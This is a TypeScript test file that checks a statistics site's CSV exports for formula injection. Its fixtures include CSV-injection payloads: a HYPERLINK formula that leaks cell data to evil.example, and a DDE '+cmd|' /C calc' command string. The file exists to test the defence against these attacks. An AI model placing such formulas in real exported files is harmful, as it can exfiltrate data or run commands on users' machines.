/**
 * CSV injection (issue 12): a cell that a spreadsheet would run as a formula reaches no CSV the site writes (tidy,
 * metadata, all.zip, "download this selection", the staff export) except the original as published, which is
 * copied byte for byte and documented as raw. Numbers stay numbers: no negative value gains a quote.
 */
import { strFromU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import { archiveEntries } from '../../../src/audiences/researchers/archive-entries.ts';
import { metadataCsv } from '../../../src/audiences/researchers/metadata-export.ts';
import { tidyTable, toCsv } from '../../../src/audiences/researchers/tidy.ts';
import { rowsToCsv } from '../../../src/charts/selection-view.ts';
import { itemsToCsv } from '../../../src/functions/csv.ts';
import type { FeedbackItem } from '../../../src/functions/store/types.ts';
import { loadSite } from '../../../src/pipeline/index.ts';
import { writeCsv } from '../../../src/pipeline/write-csv.ts';
import { repositoryFiles } from '../../../src/site/node-files.ts';
import { fixture, siteOf } from '../pipeline/fixture-repo.ts';

describe('the one CSV writer', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['=HYPERLINK("http://x")', `"'=HYPERLINK(""http://x"")"`],
    ['+cmd|\' /C calc\'!A0', `"'+cmd|' /C calc'!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['=1\n2', `"'=1\n2"`],
    ['-', `"'-"`],
    ['a=1', 'a=1'],
    ['-3.5', '-3.5'],
    ['+2', '+2'],
    ['-1e-3', '-1e-3'],
    [-3.5, '-3.5'],
    [-0.25, '-0.25'],
    [0, '0'],
    [null, ''],
  ] as const)('writes %j as %s', (cell, written) => {
    expect(writeCsv(['x'], [[cell]])).toBe(`x\n${written}\n`);
  });

  it('defuses a header too', () => {
    expect(writeCsv(['=cmd', 'Value'], [])).toBe(`"'=cmd",Value\n`);
  });
});

describe('downloads built from a repository with formula cells', async () => {
  const site = await siteOf({ 'data/indicator_1-2-1.csv': fixture('hostile/formula-cells.csv'), 'meta/1-2-1.md': fixture('hostile/formula-meta.md') });
  const ind = site.indicators.find((i) => i.id === '1-2-1')!;

  it('the tidy CSV defuses every formula and keeps negative values as numbers', () => {
    expect(toCsv(tidyTable(ind))).toBe([
      'Year,Units,Sex,Observation status,Value',
      `2015,Percentage (%),"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",,-3.5`,
      `2016,Percentage (%),"'+cmd|' /C calc'!A0",,-0.25`,
      `2017,Percentage (%),"'-2+3",,4`,
      `2018,Percentage (%),"'@SUM(1+1)",,-12`,
      `2019,Percentage (%),"'-",,0`,
      '',
    ].join('\n'));
  });

  it('the metadata CSV defuses formulas in fields', () => {
    const csv = metadataCsv(ind);
    expect(csv).toBe([
      'source,key,label,value',
      `,national_geographical_coverage,National geographical coverage,"'=HYPERLINK(""http://evil.example/"",""click"")"`,
      `,data_comments,Data comments,"'@SUM(1+1)"`,
      `1,source_organisation_1,Organisation,"'+cmd|' /C calc'!A0"`,
      '',
    ].join('\n'));
  });

  it('all.zip holds the defused tidy and metadata CSVs, and the original as published byte for byte', () => {
    const original = new TextEncoder().encode(fixture('hostile/formula-cells.csv'));
    const entries = archiveEntries(site, 'repo', (path) => (path === 'repo/data/indicator_1-2-1.csv' ? original : new Uint8Array(0)));
    const text = (path: string) => strFromU8(entries.find((e) => e.path === path)!.bytes);
    expect(text('tidy/1-2-1-tidy.csv')).toBe(toCsv(tidyTable(ind)));
    expect(text('metadata/1-2-1-metadata.csv')).toBe(metadataCsv(ind));
    expect(text('data/indicator_1-2-1.csv')).toBe(fixture('hostile/formula-cells.csv'));
  });
});

describe('"download this selection"', () => {
  it('defuses a series or breakdown named like a formula and writes values as numbers', () => {
    expect(rowsToCsv([
      { line: 'a', series: '=HYPERLINK("http://x")', year: '2015', value: -3.5, unit: '%', dims: { Sex: '@Total' } },
      { line: 'b', series: 'Plain', year: '2016', value: -12, unit: '-', status: '=cmd', dims: {} },
    ], 1, ['Sex'])).toBe(`Series,Unit,Sex,Year,Value,Observation status\r\n"'=HYPERLINK(""http://x"")",%,"'@Total",2015,-3.5,\r\nPlain,"'-",,2016,-12.0,"'=cmd"\r\n`);
  });
});

describe('the staff export', () => {
  it('defuses formulas in every text a reader wrote', () => {
    const item = { id: 'i', createdAt: '2025-03-01T00:00:00.000Z', page: '/', useful: 'no', group: null, doing: '-1+1', problem: '@cmd', email: null, status: 'new', tags: ['=x'], response: null, public: false, updatedAt: '', respondedAt: null, closedAt: null } as unknown as FeedbackItem;
    expect(itemsToCsv([item]).split('\r\n')[1]).toBe(`i,2025-03-01T00:00:00.000Z,/,no,,"'-1+1","'@cmd",,new,"'=x",,false,,,`);
  });
});

describe('the UK data', () => {
  it('keeps every one of its 5,031 negative values a plain number in the tidy CSVs', async () => {
    const at = { root: 'data/uk', frameworkRoot: 'data/sdg-framework', languages: ['en'] };
    const uk = await loadSite(at, repositoryFiles(at));
    let negative = 0;
    let written = 0;
    for (const ind of uk.indicators.filter((i) => i.data)) {
      negative += ind.data!.observations.filter((o) => o.value !== null && o.value < 0).length;
      const lines = toCsv(tidyTable(ind)).trimEnd().split('\n').slice(1);
      written += lines.filter((l) => /,-\d[\d.e-]*$/.test(l)).length;
      expect(lines.filter((l) => l.endsWith(`"`) && /,"'-[\d.]+"$/.test(l))).toEqual([]);
    }
    expect(negative).toBe(5031);
    expect(written).toBe(5031);
  }, 120_000);
});
